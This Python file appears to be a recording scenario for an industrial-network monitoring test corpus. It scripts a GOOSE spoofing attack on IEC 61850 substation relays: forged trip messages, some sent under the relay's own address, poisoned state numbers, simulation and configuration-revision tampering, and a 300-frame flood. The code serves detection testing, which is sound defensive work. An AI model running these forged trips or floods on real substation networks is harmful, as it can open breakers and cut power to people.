"""A rogue workstation publishes a trip in the name of a relay, with its own and with the relay's address,
poisons the state number, tries simulation and another configuration, and floods the group, while the
relay goes on."""

from collections.abc import Iterable

from plantwatch.corpus.record import Recording

RECORDING = Recording(
    "goose/recorded-attack",
    stacks=("pyiec61850-ng 1.6.1.10",),
    servers=("10.65.1.10",),
    clients=("10.65.1.66",),
)
TURNS = 3


def server() -> None:
    """The relay under attack repeats its state when it is its turn."""
    import threading

    from _goose import FEEDER, Relay

    from plantwatch.corpus.record import cues

    feeder = Relay("relay1", FEEDER)
    feeder.block("gcb1", state=7, sequence=120)
    for turn in range(TURNS):
        cues.wait(f"turn {turn}")
        feeder.publish("gcb1", True, 0, 640.5, times=2)
        cues.give(f"done {turn}")
    threading.Event().wait()


def signature(said: bytes) -> Iterable[bytes]:
    """Frames without the time of day."""
    from _goose import comparable

    return comparable(said)


def client() -> None:
    """Trip by its own address, then by that of the relay; then everything that makes noise."""
    import time

    import pyiec61850.pyiec61850 as iec
    from _goose import ATTACKER, FEEDER, TRANSFORMER, Relay

    from plantwatch.corpus.record import cues

    def let_speak(turn: int) -> None:
        cues.give(f"turn {turn}")
        cues.wait(f"done {turn}")
        time.sleep(0.05)

    rogue = Relay("rogue1", ATTACKER, FEEDER)
    forger = Relay("rogue2", FEEDER)
    noise = Relay("rogue3", "00:0c:29:55:01:67", TRANSFORMER)

    let_speak(0)
    rogue.block("gcb1", state=8)
    rogue.publish("gcb1", False, 0, 0.0, times=2)
    let_speak(1)
    forger.block("gcb1", state=9999)
    forger.publish("gcb1", False, 0, 0.0, times=2)
    let_speak(2)
    forger.block("gcb1", state=7, sequence=121)
    forger.publish("gcb1", True, 0, 640.5)

    publisher = noise.block("gcb1", state=0xFFFF_FF00)
    noise.publish("gcb1", False)
    noise.block("gcb1", state=5)
    iec.GoosePublisher_setSimulation(publisher, True)
    noise.publish("gcb1", False)
    iec.GoosePublisher_setSimulation(publisher, False)
    iec.GoosePublisher_setConfRev(publisher, 2)
    iec.GoosePublisher_setNeedsCommission(publisher, True)
    noise.publish("gcb1", False, 1)
    iec.GoosePublisher_setNeedsCommission(publisher, False)
    time.sleep(2)
    for state in range(10, 70):
        noise.block("gcb1", state=state)
        noise.publish("gcb1", state % 2 == 0)
    noise.publish("gcb1", False, times=300)
